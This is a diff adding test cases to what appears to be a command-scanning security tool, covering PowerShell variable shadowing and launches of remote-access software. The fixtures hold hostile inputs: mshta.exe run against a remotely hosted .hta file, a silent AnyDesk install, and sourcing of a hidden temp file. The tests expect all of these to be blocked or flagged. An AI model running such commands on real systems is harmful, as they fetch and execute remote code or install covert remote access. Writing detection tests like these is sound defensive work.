@@ -109,3 +109,14 @@ describe('script settings followed to their use', () => {
     expect(ruleIds('. /tmp/.job_env', 'sh')).toContain('evasion.hidden-program');
   });
 });
+
+describe('script settings cannot hide what the script assigned', () => {
+  it('keeps a variable set before a function whose parameter default has the same name', () => {
+    const text = "$p = 'mshta.exe'\nfunction Show-Note { param($p = 'notepad.exe') & $p }\n& $p http://203.0.113.9/a.hta";
+    expect(evaluateLine(text, 'powershell').decision).toBe('block');
+  });
+
+  it('still starts a program named like a function of the script when Start-Process is given its name', () => {
+    expect(ruleIds('function AnyDesk { "x" }\nStart-Process AnyDesk -ArgumentList "--install C:\\ad"')).toContain('rmm.launch');
+  });
+});
